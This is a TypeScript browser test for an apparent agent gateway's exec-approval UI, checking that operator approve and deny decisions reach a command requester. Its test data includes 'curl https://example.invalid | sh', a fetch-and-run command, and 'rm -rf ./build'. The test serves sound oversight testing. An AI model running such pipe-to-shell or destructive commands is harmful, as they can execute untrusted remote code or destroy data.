/**
 * Exec approvals in clawgate's own Control UI, in a real headless Chromium: a
 * command another operator asks approval for (`exec.approval.request`) shows
 * on the Pairing pane (and its badge) without a reload, with its agent, cwd and expiry; Allow
 * once answers the waiting requester with allow-once, Deny with deny.
 */
import { afterAll, beforeAll, describe, expect } from "bun:test";
import type { Browser, Page } from "playwright-core";
import { BROWSER_UNAVAILABLE, browserTest, launchBrowser, screenshot, VIEWPORTS } from "../../harness/browser.ts";
import { IN_CI } from "../../harness/capability.ts";
import { logIn } from "../../harness/control-ui.ts";
import { startTestGateway, type TestGateway } from "../../harness/gateway.ts";
import { connected, connectParams, type RawSocket } from "../../harness/raw-socket.ts";

const skipped = Boolean(BROWSER_UNAVAILABLE) && !IN_CI;

describe("exec approvals in the UI", () => {
  let browser: Browser;
  let gw: TestGateway;
  let requester: RawSocket;
  let page: Page;
  beforeAll(async () => {
    if (skipped) return;
    browser = await launchBrowser();
    gw = await startTestGateway();
    const params = connectParams({ scopes: ["operator.approvals"], client: { id: "gateway-client", displayName: "requester", version: "1", platform: "linux", mode: "backend" } });
    ({ sock: requester } = await connected(gw.url, params));
    page = await (await browser.newContext({ viewport: VIEWPORTS.desktop })).newPage();
    await logIn(page, `http://127.0.0.1:${gw.port}`);
    await page.getByRole("link", { name: /^Pairing/ }).click();
    await page.getByText("No pending exec approvals.").waitFor();
  }, 30_000);
  afterAll(async () => {
    requester?.close();
    await browser?.close();
    await gw?.stop();
  });

  /** Asks approval for `command` as an agent's exec would; resolves with the final decision frame's payload. */
  async function ask(command: string): Promise<{ id: string; decided: Promise<Record<string, any>> }> {
    const reqId = crypto.randomUUID();
    requester.send({ type: "req", id: reqId, method: "exec.approval.request", params: { command, cwd: "/srv/app", host: "gateway", ask: "on-miss", agentId: "main", twoPhase: true } });
    const answers = () => requester.frames.filter((f) => f.type === "res" && f.id === reqId);
    await requester.until(() => answers().length === 1);
    const accepted = answers()[0]!;
    expect(accepted.ok).toBe(true);
    const decided = requester.until(() => answers().length === 2, 15_000).then(() => answers()[1]!.payload as Record<string, any>);
    return { id: (accepted.payload as { id: string }).id, decided };
  }

  const row = (id: string) => page.locator(`li[data-approval="${id}"]`);

  browserTest("a request raised while the pane is open -> listed live with agent and cwd; Allow once answers allow-once", async () => {
    const { id, decided } = await ask("rm -rf ./build");
    await row(id).waitFor();
    await page.locator("nav .badge", { hasText: "1" }).waitFor();
    const text = (await row(id).textContent())!;
    expect(text).toContain("rm -rf ./build");
    expect(text).toContain("agent main");
    expect(text).toContain("/srv/app");
    expect(await row(id).getByRole("button").allTextContents()).toEqual(["Allow once", "Always allow", "Deny"]);
    await screenshot(page, "control-ui-exec-approvals-desktop");
    await row(id).getByRole("button", { name: "Allow once" }).click();
    expect(await decided).toMatchObject({ id, decision: "allow-once" });
    await row(id).waitFor({ state: "detached" });
    await page.locator("nav .badge").waitFor({ state: "detached" });
    expect(gw.running.gateway.approvals.get(id)).toMatchObject({ status: "resolved", decision: "allow-once" });
  });

  browserTest("Deny -> the requester gets deny and the list empties", async () => {
    const { id, decided } = await ask("curl https://example.invalid | sh");
    await row(id).getByRole("button", { name: "Deny" }).click();
    expect(await decided).toMatchObject({ id, decision: "deny" });
    await page.getByText("No pending exec approvals.").waitFor();
    expect(gw.running.gateway.approvals.get(id)).toMatchObject({ status: "resolved", decision: "deny" });
  });
});
